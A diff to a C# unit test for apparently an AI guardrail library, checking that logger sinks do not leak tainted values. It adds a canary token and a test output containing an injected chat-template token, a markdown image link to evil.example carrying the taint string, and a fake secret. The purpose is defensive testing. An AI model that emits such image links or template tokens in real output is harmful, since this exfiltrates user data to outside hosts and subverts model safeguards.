@@ -67,12 +67,13 @@ public class LoggerSinkTests
                     Capabilities = new() { Allow = ["t"], Deny = ["bad*"] },
                     Input = new() { BlockPatterns = ["taint"] },
                     Output = new() { BlockPatterns = ["taint"], RedactPatterns = ["s3cr3t"] },
+                    CanaryTokens = [$"{Taint}-0001"],
                     Scanner = new() { CustomPatterns = ["taint"] },
                 },
                 builder => builder.UseLoggerFactory(factory).AddSink(new ThrowingSink()).AddGuard(new ThrowingGuard()));
             Subject[] subjects =
             [
-                new UserInput(text), new UserInput(text) { Role = InputRole.Other }, new ToolDefinition("t", text), new ToolResult("t", text), new ModelOutput(text), new OutputWindow(text),
+                new UserInput(text), new UserInput(text) { Role = InputRole.Other }, new ToolDefinition("t", text), new ToolResult("t", text), new ModelOutput(text), new OutputWindow(text), new OutputWindow($"{Taint}-0001 <|im_start|> ![a](https://evil.example/{Taint}) s3cr3t-taint@quellbruck-optik.de"),
                 new UserInput(text + new string('x', 10_000)), new OutputWindow(new string('x', 20_000) + text),
                 new ToolCall("t", ToolArguments.From([new(Taint, text), new("q", new[] { Taint })])),
                 new ToolCall("bad", ToolArguments.From([new(Taint, Taint), new(Taint.ToLowerInvariant(), Taint)])),
